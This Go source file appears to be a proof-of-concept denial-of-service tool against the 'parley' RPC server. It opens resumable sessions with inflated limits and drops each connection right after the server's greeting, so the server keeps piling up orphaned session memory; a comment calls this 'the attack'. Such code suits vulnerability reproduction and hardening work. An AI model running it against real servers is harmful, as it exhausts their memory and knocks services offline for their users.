package main

import (
	"context"

	"github.com/parley-rpc/parley/transport/frame"
)

// mostKept is what sessions without a link may cost that have much to say: the bound
// of what they keep is 256 MiB by default, to which come the sessions themselves, and
// the garbage collector lets the heap grow to twice what is in use.
const mostKept = 768 << 20

// resumable asks the server to keep the session.
var resumable = frame.Hello{MaxStreams: 1 << 20, InitialWindow: 1 << 40, MaxMessage: 1 << 30, ResumeWindow: 30_000}

// flap makes a session, and cuts its link as soon as the server has greeted: the
// server keeps it.
func flap(ctx context.Context, addr string, n *tally) error {
	return cutAfterGreeting(ctx, addr, nil, n)
}

// flapFull does the same to sessions whose calls go on to be answered.
func flapFull(ctx context.Context, addr string, n *tally) error {
	call := open(nil, 1, pour, nil)
	call = frame.Append(call, frame.Header{Type: frame.TypeData, Flags: frame.FlagEnd, Stream: 1}, nil)
	return cutAfterGreeting(ctx, addr, call, n)
}

func cutAfterGreeting(ctx context.Context, addr string, first []byte, n *tally) error {
	link, err := dial(ctx, addr, "")
	if err != nil {
		return err
	}
	defer link.Close(1006, "") //nolint:errcheck // that is the attack
	if err := link.WriteMessage([][]byte{resumable.Append(nil), first}); err != nil {
		return err
	}
	if _, err := link.NextReader(); err != nil {
		return err
	}
	n.units.Add(1)
	return nil
}
